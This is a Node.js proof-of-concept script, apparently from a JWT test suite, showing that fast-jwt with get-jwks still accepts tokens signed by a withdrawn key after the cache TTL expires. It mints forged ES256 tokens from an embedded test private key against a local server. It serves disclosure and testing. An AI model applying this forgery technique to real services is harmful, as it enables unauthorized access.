// fast-jwt + get-jwks keep accepting tokens signed by a key the issuer has withdrawn from its key
// set, after the key set's TTL has run out.
//
// RFC 9068 §4: "The resource server MUST use the keys provided by the authorization server." Once
// the cached key set has outlived its TTL it is no longer what the authorization server provides;
// a key the refetched set no longer contains is not one of its keys. get-jwks (the key-set client
// fast-jwt's README points to) caches each JWK per kid; an entry that expires is moved to a
// "stale" cache, and when the refetch fails for any reason, including JWK_NOT_FOUND because the
// issuer withdrew the kid, getJwk returns that stale, withdrawn key instead of the error
// (src/get-jwks.js, getJwk's catch). fast-jwt then verifies the token with it: whoever holds the
// withdrawn (say, leaked) private key can still mint tokens the verifier accepts.
//
// Reproduces: fetch/withdrawn-key-after-ttl (forgery)
//
// Versions: fast-jwt 6.3.6, get-jwks 11.0.3 (adapters/fast-jwt/package.json), Node.js >= 20.
// Run from the repository root, after scripts/setup.sh (or scripts/setup/node.sh):
//   node adapters/fast-jwt/repro.mjs
// It takes about 3 s (the vector's second step comes 3 s after the first, past the 2 s TTL) and
// gives up with NOT REPRODUCED after 15 s.
//
// get-jwks and fast-jwt are configured exactly as adapters/fast-jwt/adapter.mjs configures them
// for the vector vectors/fetch/withdrawn-key-after-ttl.json; only fast-jwt, get-jwks and Node's
// standard library are used. The vector's issuer is the key-set server's origin: the suite serves
// it over HTTPS with a CA of its own (handed to Node's fetch through NODE_EXTRA_CA_CERTS); this
// snippet serves plain HTTP on 127.0.0.1 instead, so it needs no certificate. The transport plays
// no part in the finding: get-jwks fetches http:// and https:// URLs alike through the platform's
// fetch, and its caching and stale fallback are the same for both. The tokens carry the server's
// origin as iss, so they are minted here with node:crypto from the vector's private key, exactly
// as the vector's token_mint describes them (sorted members, compact JSON, ES256, P1363 signature).

import { createPrivateKey, sign } from 'node:crypto';
import { createServer } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { createVerifier } from 'fast-jwt';
import buildGetJwks from 'get-jwks';

const ID = 'fetch/withdrawn-key-after-ttl';

// The vector's signing key (token_mint.key of both steps): kid "primary", private part included.
const SIGNING_JWK = {
  alg: 'ES256', crv: 'P-256', d: 'r9D3aG2qKv9RQQM3RDq61rM6r770Z-EuxsRApfZuR8g', kid: 'primary', kty: 'EC', use: 'sig',
  x: 'Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE', y: 'opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI',
};
// The vector's jwks: the key set published at step 0 (the public part of SIGNING_JWK).
const OLD_JWKS = {
  keys: [{
    alg: 'ES256', crv: 'P-256', kid: 'primary', kty: 'EC', use: 'sig',
    x: 'Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE', y: 'opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI',
  }],
};
// Step 1's publish_jwks action: the issuer rotates to kid "next" and withdraws "primary".
const NEW_JWKS = {
  keys: [{
    alg: 'ES256', crv: 'P-256', kid: 'next', kty: 'EC', use: 'sig',
    x: 'qcXK1PkwsD2cS-ds-j4QRCkLwqOEJHD3qZ3UkIuZE_0', y: 'JNmWX7F2LsRUk19DB3VUoQDwjL5uic9BXVq0nlrk-h8',
  }],
};
const AUDIENCE = 'https://api.example';
const TTL_MS = 2000; // key_source.ttl_secs
const TIMEOUT_MS = 1000; // key_source.fetch_timeout_ms
const STEP_NOW = [1700000000, 1700000003]; // the steps' now: step 1 comes 3 s after step 0
const REQUIRED_CLAIMS = ['exp', 'iat', 'iss', 'aud', 'sub', 'client_id', 'jti'];

let published = OLD_JWKS;
const served = []; // the kids of each key set served
const server = createServer((req, res) => {
  if (req.method === 'GET' && req.url === '/jwks.json') {
    served.push(published.keys.map((k) => k.kid).join(','));
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(published));
  } else {
    res.writeHead(404, { 'content-type': 'application/json' });
    res.end('{}');
  }
});

function finish(code, line) {
  console.log(line);
  server.closeAllConnections();
  server.close(() => process.exit(code));
  setTimeout(() => process.exit(code), 1000).unref();
}

setTimeout(() => finish(1, `NOT REPRODUCED ${ID}: the snippet did not finish within 15 s`), 15000).unref();

// token_mint: header and claims with their members sorted, compact JSON, "{issuer}" = the origin.
function mint(issuer) {
  const b64 = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const header = { alg: 'ES256', kid: 'primary', typ: 'at+jwt' };
  const claims = {
    aud: AUDIENCE, client_id: 'client-1', exp: 4102444800, iat: 1000000000, iss: issuer, jti: 'jti-0001',
    sub: '01HZY2J3K4M5N6P7Q8R9S0T1V2',
  };
  const input = `${b64(header)}.${b64(claims)}`;
  const key = createPrivateKey({ key: SIGNING_JWK, format: 'jwk' });
  const signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}

function describe(error) {
  const inner = error?.originalError;
  const text = `${error?.code ?? error?.name}: ${error?.message}`;
  return inner ? `${text} (${inner.code ?? inner.name}: ${inner.message})` : text;
}

async function main() {
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  const issuer = `http://127.0.0.1:${server.address().port}`;
  const jwksUri = `${issuer}/jwks.json`;

  // As the adapter's remoteKeys: built at step 0 and reused by step 1; jwksPath is jwks_uri's path
  // under the issuer.
  const getJwks = buildGetJwks({
    ttl: TTL_MS, issuersWhitelist: [issuer], timeout: TIMEOUT_MS, fetchOptions: { timeout: TIMEOUT_MS },
    jwksPath: jwksUri.slice(`${issuer}/`.length),
  });
  // As the adapter's verify/verifyFetched: one verifier per step, the key looked up by the header's
  // kid and alg under the configured issuer (never the token's iss); no verifier cache.
  const verifierAt = (now) => createVerifier({
    key: async ({ header }) => getJwks.getPublicKey({ kid: header.kid, alg: header.alg, domain: issuer }),
    algorithms: ['ES256'], allowedIss: issuer, allowedAud: [AUDIENCE], clockTolerance: 0,
    clockTimestamp: now * 1000, checkTyp: 'at+jwt', requiredClaims: [...REQUIRED_CLAIMS], cache: false,
  });

  // Step 0: the key set holds "primary"; its token must be accepted.
  try {
    await verifierAt(STEP_NOW[0])(Buffer.from(mint(issuer)));
  } catch (error) {
    finish(1, `NOT REPRODUCED ${ID}: step 0's token (expected accept) was rejected: ${describe(error)}`);
    return;
  }

  // 3 s later (past the 2 s TTL) the issuer publishes a set without "primary".
  await sleep((STEP_NOW[1] - STEP_NOW[0]) * 1000);
  published = NEW_JWKS;

  // Step 1: a token signed by the withdrawn key; the vector expects reject (kid_unknown).
  try {
    const claims = await verifierAt(STEP_NOW[1])(Buffer.from(mint(issuer)));
    if (published.keys.some((k) => k.kid === SIGNING_JWK.kid)) {
      // Only an acceptance of a key that is no longer published is the finding.
      finish(1, `NOT REPRODUCED ${ID}: the token was accepted, but the issuer still publishes kid primary`);
      return;
    }
    finish(0, `REPRODUCED ${ID}: fast-jwt + get-jwks accepted a token signed by a key the issuer withdrew, ` +
      `after the TTL\n  (kid primary, sub ${claims.sub}; the key set was fetched ${served.length} times: ` +
      `${served.map((kids) => `[${kids}]`).join(', ')})`);
  } catch (error) {
    finish(1, `NOT REPRODUCED ${ID}: fast-jwt + get-jwks rejected it: ${describe(error)}`);
  }
}

main().catch((error) => finish(1, `NOT REPRODUCED ${ID}: the snippet failed: ${error?.stack ?? error}`));
